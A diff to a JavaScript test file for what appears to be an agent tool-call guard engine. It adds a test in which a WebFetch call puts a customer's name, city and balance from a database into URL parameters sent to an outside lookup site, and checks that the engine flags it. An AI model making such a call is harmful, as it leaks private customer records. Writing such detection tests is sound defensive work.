@@ -102,6 +102,15 @@ test('engine: a search holding name, city and balance of customers just read fro
   assert.match(d.reason, /record/);
 });
 
+test('engine: a WebFetch whose URL parameters hold name, city and balance of a customer just read is stopped', () => {
+  const r = new Run();
+  r.psql();
+  // `%20` in the name and `=77.15` in the balance are decoded in one pass: the balance is not mangled as quoted-printable
+  const d = r.call('WebFetch', { url: 'https://people-lookup.example.org/find?name=Oskar%20Lindqvist&city=Tampere&balance=77.15', prompt: 'Who is this?' });
+  assert.equal(d.action, 'ask');
+  assert.equal(d.findings[0]?.rule, 'record_to_external');
+});
+
 test('engine: the same search aimed at a site planted in a search result is denied', () => {
   const r = new Run();
   r.search('customer retention benchmarks', [
